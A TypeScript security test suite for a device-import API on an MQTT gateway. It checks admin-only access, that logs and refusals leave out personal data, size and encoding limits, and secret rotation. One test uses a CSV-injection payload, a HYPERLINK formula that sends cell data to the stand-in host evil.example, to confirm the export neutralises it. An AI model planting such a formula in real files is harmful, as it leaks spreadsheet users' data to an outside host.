/**
 * Device import as an attacker and a careless operator try it, against a real running
 * gateway (createGateway, broker auth and API tokens on, real HTTP and MQTT clients):
 * - only an admin token imports or exports; a refused call changes nothing;
 * - refusals and log lines name rows, never a student, a secret or a pen's id;
 * - a formula in a cell leaves the export quoted, and the export imports back unchanged;
 * - oversized bodies, too many rows, a non-UTF-8 file, short secrets and an internal
 *   user's name are refused whole;
 * - a new secret in the file closes the device's connection and the old secret stops
 *   working; two imports at once never hand out a secret that does not log in.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import mqtt from 'mqtt';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN_TOKEN, FACILITIES_TOKEN, INTERNAL_USER, deviceLogin, importCsv, startImportGateway, type ImportAnswer, type ImportGateway } from '../integration/devices-import-harness.js';

const dir = mkdtempSync(join(tmpdir(), 'cg-security-import-'));
let gw: ImportGateway;

beforeAll(async () => {
  gw = await startImportGateway(dir);
});
afterAll(async () => {
  await gw?.stop();
  rmSync(dir, { recursive: true, force: true });
});

const answer = async (res: Response) => ({ status: res.status, body: await res.json() as ImportAnswer & { error: { code: string; message: string; problems: string[] } } });

describe('security: device import', () => {
  it('imports and exports only with an admin token; a refused call changes nothing', async () => {
    const csv = 'id,template\nR-1,classroom-light\n';
    expect((await importCsv(gw, csv, null)).status).toBe(401);
    expect((await importCsv(gw, csv, FACILITIES_TOKEN)).status).toBe(403);
    expect((await importCsv(gw, csv, 'not-a-token')).status).toBe(401);
    expect((await gw.api('/api/devices/export', { token: null })).status).toBe(401);
    expect((await gw.api('/api/devices/export', { token: FACILITIES_TOKEN })).status).toBe(403);
    expect(gw.gateway.registry.get('R-1')).toBeUndefined();
  });

  it('names refused rows without the student, the secret or the pen id, and logs none of them', async () => {
    const from = gw.logged().length;
    const csv = 'id,template,room,person,secret\n'
      + 'PEN-7781,smart-pen,301,林小雨,\n'
      + 'PEN-7781,smart-pen,301,赵一鸣,\n'
      + 'PEN-7782,smart-pen,301,陈思远,pw-Hunter2\n'
      + 'PEN-7783,lava-lamp,301,周子涵,\n';
    const bad = await answer(await importCsv(gw, csv));
    expect(bad.status).toBe(400);
    expect(bad.body.error.problems).toEqual([
      'line 3: duplicate id (also on line 2)',
      'line 4: secret shorter than 16 characters (leave the cell empty to have one made)',
      'line 5: unknown template "lava-lamp"',
    ]);
    const good = await answer(await importCsv(gw, 'id,template,room,person\nPEN-7781,smart-pen,301,林小雨\nPEN-7782,smart-pen,301,陈思远\n'));
    expect(good.body).toMatchObject({ added: 2 });
    const posted = await gw.api('/api/devices', { method: 'POST', type: 'application/json', body: JSON.stringify({ id: 'PEN-7790', template: 'smart-pen', person: '吴昊' }) });
    expect(posted.status).toBe(201);
    const logged = gw.logged().slice(from);
    expect(logged).toContain('devices imported');
    expect(logged).toContain('device provisioned');
    for (const value of ['PEN-7781', 'PEN-7782', 'PEN-7790', '林小雨', '赵一鸣', '陈思远', '周子涵', '吴昊', 'pw-Hunter2', ...good.body.secrets.map((s) => s.secret)]) {
      expect(JSON.stringify(bad.body)).not.toContain(value);
      expect(logged).not.toContain(value);
    }
  });

  it('quotes formula text in the export, and the export imports back unchanged', async () => {
    const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
    const res = await answer(await importCsv(gw, `id,template,building,room\nF-1,classroom-light,"${formula.replaceAll('"', '""')}",＋1F\n`));
    expect(res.body).toMatchObject({ added: 1 });
    const csv = Buffer.from(await (await gw.api('/api/devices/export')).arrayBuffer()).toString('utf8');
    const line = csv.split('\r\n').find((l) => l.startsWith('F-1,'));
    expect(line).toBe(`F-1,classroom-light,"'${formula.replaceAll('"', '""')}",'＋1F,`);
    expect((await answer(await importCsv(gw, csv))).body).toMatchObject({ added: 0, updated: 0 });
    expect(gw.gateway.registry.get('F-1')).toMatchObject({ building: formula, room: '＋1F' });
  });

  it('refuses whole files that are too big, too long, not UTF-8, or take an internal user\'s name', async () => {
    const huge = `id,template,room\n${'H-1,classroom-light,'.padEnd(9 * 1024 * 1024, 'x')}\n`;
    expect((await importCsv(gw, huge)).status).toBe(413);
    const long = `id,template\n${Array.from({ length: 20_001 }, (_, i) => `L-${i},classroom-light`).join('\n')}\n`;
    const tooLong = await answer(await importCsv(gw, long));
    expect(tooLong.body.error.message).toMatch(/20001 devices; at most 20000/);
    // JSON rows too: a 2 MiB body passes the size limit and meets the row limit
    const rows = Array.from({ length: 20_001 }, (_, i) => ({ id: `J-${i}`, template: 'classroom-light', room: 'r'.repeat(80) }));
    const json = await gw.api('/api/devices/import', { method: 'POST', type: 'application/json', body: JSON.stringify({ devices: rows }) });
    expect(json.status).toBe(400);
    expect((await json.json() as { error: { problems: string[] } }).error.problems).toEqual(['devices: at most 20000 devices in one import']);
    const gbk = Buffer.concat([Buffer.from('id,template,room\nG-1,classroom-light,'), Buffer.from([0xbd, 0xcc, 0xca, 0xd2]), Buffer.from('\n')]);
    const notUtf8 = await fetch(`${gw.base}/api/devices/import`, { method: 'POST', headers: { authorization: `Bearer ${ADMIN_TOKEN}`, 'content-type': 'text/csv' }, body: gbk });
    expect((await notUtf8.json() as { error: { message: string } }).error.message).toMatch(/not UTF-8/);
    const taken = await answer(await importCsv(gw, `id,template\nOK-1,classroom-light\n${INTERNAL_USER},classroom-light\n`));
    expect(taken.body.error.problems).toEqual(['line 3: id is the username of an internal MQTT user']);
    for (const id of ['H-1', 'L-0', 'J-0', 'G-1', 'OK-1']) expect(gw.gateway.registry.get(id)).toBeUndefined();
  });

  it('closes a device\'s connection when the file gives it a new secret; the same secret again is no change', async () => {
    const url = gw.mqttUrl;
    const secret = 'first-chosen-secret-0001';
    expect((await answer(await importCsv(gw, `id,template,secret\nK-1,classroom-light,${secret}\n`))).body).toMatchObject({ added: 1, secrets: [] });
    const client = await mqtt.connectAsync(url, { clientId: 'K-1', username: 'K-1', password: secret, reconnectPeriod: 0 });
    const closed = new Promise<void>((resolve) => client.once('close', () => resolve()));
    expect((await answer(await importCsv(gw, `id,template,secret\nK-1,classroom-light,${secret}\n`))).body).toMatchObject({ unchanged: 1, connectionsClosed: 0 });
    expect(client.connected).toBe(true);
    const rotated = await answer(await importCsv(gw, 'id,template,secret\nK-1,classroom-light,second-chosen-secret-02\n'));
    expect(rotated.body).toMatchObject({ updated: 1, connectionsClosed: 1 });
    await closed;
    await client.endAsync(true);
    expect(await deviceLogin(url, 'K-1', secret)).toBe(4);
    expect(await deviceLogin(url, 'K-1', 'second-chosen-secret-02')).toBe(0);
    expect(readFileSync(join(dir, 'data', 'devices.json'), 'utf8')).not.toContain('second-chosen-secret-02');
  });

  it('hands out each secret once when two imports of the same new devices race, and every one logs in', async () => {
    const csv = `id,template\n${Array.from({ length: 100 }, (_, i) => `Q-${i},classroom-light`).join('\n')}\n`;
    const [a, b] = await Promise.all([importCsv(gw, csv).then(answer), importCsv(gw, csv).then(answer)]);
    const secrets = [...a.body.secrets, ...b.body.secrets];
    expect([a.body.added + b.body.added, a.body.unchanged + b.body.unchanged, secrets.length]).toEqual([100, 100, 100]);
    for (const s of [secrets[0]!, secrets[99]!]) expect(await deviceLogin(gw.mqttUrl, s.id, s.secret)).toBe(0);
  });
});
